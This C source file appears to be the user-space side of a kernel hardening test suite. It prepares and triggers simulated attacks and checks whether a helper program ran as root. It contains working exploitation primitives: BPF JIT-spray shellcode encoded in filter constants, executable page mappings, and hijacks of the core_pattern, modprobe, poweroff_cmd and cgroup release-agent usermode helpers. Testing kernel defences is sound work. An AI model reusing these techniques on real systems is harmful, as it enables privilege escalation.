// SPDX-License-Identifier: GPL-2.0
/*
 * What attacks do in user space: attack_user.h
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/filter.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack_user.h"
#include "../../vmx/hypercall.h"

#define NOBODY		65534
#define HYPERCALLS	32

/* How long a program that the kernel runs may take to say so. */
#define PATIENCE_MS	5000

#define NO_FAMILY	12	/* DECnet, gone since 6.1, and a module before */

/* With a filter that the kernel compiles */
static int socket_with(struct attack_request *q, struct sock_fprog *program)
{
	int fd;

	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	q->argument = fd;
	return setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, program,
			  sizeof(*program));
}

/* Long enough, and nothing in it to fold */
static int filtered_socket(int device, struct attack_request *q)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_LEN, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 7, 1, 0),
		BPF_STMT(BPF_ALU | BPF_ADD | BPF_K, 0x01020304),
		BPF_STMT(BPF_RET | BPF_A, 0),
	};
	struct sock_fprog program = { sizeof(code) / sizeof(*code), code };

	return socket_with(q, &program);
}

/*
 * Each constant is three bytes of code, and 0x3c: CMP AL, which swallows the opcode
 * of the instruction that loads the next one (0xb8). Together: EAX = 0x0ddba11.
 */
static int spraying_socket(int device, struct attack_request *q)
{
	static const unsigned char pieces[][4] = {
		ATTACK_CONSTANT_FIRST,		/* xor %eax, %eax */
		{ 0xb0, 0xdd, 0x90, 0x3c },	/* mov $0xdd, %al */
		{ 0xc1, 0xe0, 0x10, 0x3c },	/* shl $16, %eax */
		{ 0xb0, 0x11, 0x90, 0x3c },	/* mov $0x11, %al */
		{ 0xb4, 0xba, 0x90, 0x3c },	/* mov $0xba, %ah */
		{ 0xc3, 0x90, 0x90, 0x3c },	/* ret */
	};
	struct sock_filter code[sizeof(pieces) / sizeof(*pieces) + 1];
	struct sock_fprog program = { sizeof(code) / sizeof(*code), code };
	unsigned int i, value;

	for (i = 0; i < program.len - 1; i++) {
		memcpy(&value, pieces[i], sizeof(value));
		code[i] = (struct sock_filter)
			BPF_STMT(BPF_LD | BPF_IMM, value);
	}
	code[i] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_A, 0);
	return socket_with(q, &program);
}

static int executable_page(int device, struct attack_request *q)
{
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

	q->argument = (unsigned long)page;
	return page == MAP_FAILED ? -1 : mlock(page, 4096);
}

/* Three of them, where 32-bit code can be */
static int low_pages(int device, struct attack_request *q)
{
	void *pages = mmap(NULL, 3 * 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_32BIT,
			   -1, 0);

	(void)device;
	q->argument = (unsigned long)pages;
	return pages == MAP_FAILED ? -1 : mlock(pages, 3 * 4096);
}

static int write_file(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
	int err;

	if (fd < 0)
		return -1;
	err = write(fd, text, strlen(text)) == strlen(text) ? 0 : -1;
	close(fd);
	return err;
}

/* The program that is to run as root */
static int helper(int device, struct attack_request *q)
{
	unlink(ATTACK_FIFO);
	if (mkfifo(ATTACK_FIFO, 0666) ||
	    write_file(ATTACK_PROGRAM,
		       "#!/bin/sh\necho \"uid $(id -u)\" > " ATTACK_FIFO "\n",
		       0755))
		return -1;
	return 0;
}

/* In place of the module that is asked for, it runs the program. */
static int helper_of_modprobe(int device, struct attack_request *q)
{
	char text[80];

	snprintf(text, sizeof(text), "install net-pf-%d " ATTACK_PROGRAM "\n",
		 NO_FAMILY);
	if (write_file(ATTACK_MODPROBE, text, 0644))
		return -1;
	return helper(device, q);
}

static int helper_mapped(int device, struct attack_request *q)
{
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED,
			  device, 0);

	q->argument = (unsigned long)page;
	return page == MAP_FAILED ? -1 : helper(device, q);
}

/* A hierarchy that tells its agent, and where anybody may make groups; it stays. */
static int helper_of_groups(int device, struct attack_request *q)
{
	static const char switch_file[] = ATTACK_CGROUPS "/notify_on_release";

	if (access(switch_file, F_OK)) {
		mkdir(ATTACK_CGROUPS, 0755);
		if (mount("none", ATTACK_CGROUPS, "cgroup", 0,
			  "none,name=" ATTACK_CGROUP) ||
		    write_file(switch_file, "1", 0644) ||
		    chmod(ATTACK_CGROUPS, 0777))
			return -1;
	}
	return helper(device, q);
}

static sigjmp_buf refused;

static void on_sigill(int signal)
{
	siglongjmp(refused, 1);
}

/* How many hypercalls were not refused */
static int hypercalls(int device, struct attack_request *q)
{
	static volatile unsigned int number;

	signal(SIGILL, on_sigill);
	for (number = 0; number < HYPERCALLS; number++) {
		unsigned long result = HYPERCALL_MAGIC;

		if (sigsetjmp(refused, 1))
			continue;
		asm volatile("vmcall"
			     : "+a" (result)
			     : "D" ((unsigned long)number), "S" (0UL), "d" (0UL)
			     : "memory");
		q->argument++;
	}
	return 0;
}

static void become_nobody(void)
{
	struct rlimit core = { RLIM_INFINITY, RLIM_INFINITY };

	setrlimit(RLIMIT_CORE, &core);
	if (setgid(NOBODY) || setuid(NOBODY))
		_exit(1);
	prctl(PR_SET_DUMPABLE, 1);
}

static void crash(int device)
{
	raise(SIGABRT);
}

/* No protocol family is known by that number: the kernel asks modprobe. */
static void ask_for_family(int device)
{
	socket(NO_FAMILY, SOCK_DGRAM, 0);
}

/* What makes the kernel run its program: by an ordinary user, in a child */
static void in_child(int device, void (*trigger)(int device))
{
	pid_t pid = fork();

	if (!pid) {
		become_nobody();
		trigger(device);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

/* What the hierarchy's agent is told: that a group which is gone was its last. */
static void leave_groups(int device)
{
	static const char *const groups[] = {
		ATTACK_CGROUPS "/a", ATTACK_CGROUPS "/a/b",
	};

	mkdir(groups[0], 0755);
	mkdir(groups[1], 0755);
	rmdir(groups[1]);
	rmdir(groups[0]);
}

static void trigger_core(int device)
{
	in_child(device, crash);
}

static void trigger_modprobe(int device)
{
	in_child(device, ask_for_family);
}

static void trigger_agent(int device)
{
	in_child(device, leave_groups);
}

/* Nothing that an ordinary user does; the kernel does it when it gets hot. */
static void trigger_poweroff(int device)
{
	struct attack_request q = {
		.attack = ATTACK_HELPER_POWEROFF_WRITE,
	};

	ioctl(device, ATTACK_POWEROFF, &q);
}

/* Whether it ran, as root */
static bool ran_as_root(int fifo)
{
	struct pollfd p = { .fd = fifo, .events = POLLIN };
	char text[32] = "";

	if (poll(&p, 1, PATIENCE_MS) != 1 ||
	    read(fifo, text, sizeof(text) - 1) < 0)
		return false;
	return !strcmp(text, "uid 0\n");
}

/* By the frame's place in our own address space */
static void write_mapped(const struct attack_request *q, const char *text)
{
	char *string = (char *)q->argument + q->before;

	memcpy(string, text, strlen(text) + 1);
}

/* As an ordinary user, to a file that only root may write */
static void write_sysctl(const struct attack_request *q, const char *text)
{
	int fd;

	if (seteuid(NOBODY))
		return;
	fd = open("/proc/sys/kernel/poweroff_cmd", O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		if (write(fd, text, strlen(text)) < 0)
			perror("poweroff_cmd");
		close(fd);
	}
	if (seteuid(0))
		_exit(1);
}

static const struct part {
	int (*prepare)(int device, struct attack_request *q);
	void (*write)(const struct attack_request *q, const char *text);
	const char *text;
	void (*trigger)(int device);
} parts[ATTACK_COUNT] = {
	[ATTACK_CODE_BPF_WP] = { filtered_socket },
	[ATTACK_CODE_BPF_PTE] = { filtered_socket },
	[ATTACK_CODE_BPF_DIRECT] = { filtered_socket },
	[ATTACK_CODE_BPF_ALIAS] = { filtered_socket },
	[ATTACK_CODE_ENTRY_ALIAS] = { filtered_socket },

	[ATTACK_EXEC_USER_SMEP] = { executable_page },
	[ATTACK_EXEC_USER] = { executable_page },
	[ATTACK_EXEC_USER_SUPERVISOR] = { executable_page },
	[ATTACK_EXEC_USER_DIRECT_NX] = { executable_page },
	[ATTACK_EXEC_USER_DIRECT] = { executable_page },
	[ATTACK_EXEC_BPF_CONSTANTS] = { spraying_socket },

	[ATTACK_HELPER_CORE_PATTERN_WRITE] = { helper, NULL, NULL,
					       trigger_core },
	[ATTACK_HELPER_CORE_PATTERN_DIRECT] = { helper, NULL, NULL,
						trigger_core },
	[ATTACK_HELPER_CORE_PATTERN_USER] = { helper_mapped, write_mapped,
					      "|" ATTACK_PROGRAM,
					      trigger_core },
	[ATTACK_HELPER_CORE_PATTERN_SYSCTL] = { helper, write_sysctl,
						"|" ATTACK_PROGRAM,
						trigger_core },
	[ATTACK_HELPER_MODPROBE_WRITE] = { helper, NULL, NULL,
					   trigger_modprobe },
	[ATTACK_HELPER_MODPROBE_DIRECT] = { helper, NULL, NULL,
					    trigger_modprobe },
	[ATTACK_HELPER_MODPROBE_USER] = { helper_mapped, write_mapped,
					  ATTACK_PROGRAM, trigger_modprobe },
	[ATTACK_HELPER_POWEROFF_WRITE] = { helper, NULL, NULL,
					   trigger_poweroff },
	[ATTACK_HELPER_POWEROFF_DIRECT] = { helper, NULL, NULL,
					    trigger_poweroff },
	[ATTACK_HELPER_POWEROFF_USER] = { helper_mapped, write_mapped,
					  ATTACK_PROGRAM, trigger_poweroff },
	[ATTACK_HELPER_AGENT_WRITE] = { helper_of_groups, NULL, NULL,
					trigger_agent },
	[ATTACK_HELPER_ENVIRONMENT] = { helper_of_modprobe, NULL, NULL,
					trigger_modprobe },
	[ATTACK_HELPER_HOOK_FUNCTION] = { helper, NULL, NULL,
					  trigger_modprobe },
	[ATTACK_HELPER_HOOK_TABLE] = { helper, NULL, NULL, trigger_modprobe },
	[ATTACK_HELPER_RACE_BEGINNING] = { helper, NULL, NULL,
					   trigger_modprobe },

	[ATTACK_SELF_RING3] = { hypercalls },
	[ATTACK_SELF_ANNOUNCE_BPF] = { filtered_socket },

	[ATTACK_STUB_32] = { low_pages },
	[ATTACK_STUB_CHOKE_32] = { low_pages },
};

int attack_prepare(int fd, struct attack_request *q)
{
	const struct part *part = &parts[q->attack];

	return part->prepare ? part->prepare(fd, q) : 0;
}

bool attack_goes_on(unsigned int attack)
{
	return parts[attack].trigger;
}

bool attack_go_on(int fd, const struct attack_request *q)
{
	const struct part *part = &parts[q->attack];
	bool ran;
	int fifo;

	fifo = open(ATTACK_FIFO, O_RDWR | O_NONBLOCK | O_CLOEXEC);
	if (fifo < 0)
		return false;
	if (part->write)
		part->write(q, part->text);
	part->trigger(fd);
	ran = ran_as_root(fifo);
	close(fifo);
	return ran;
}
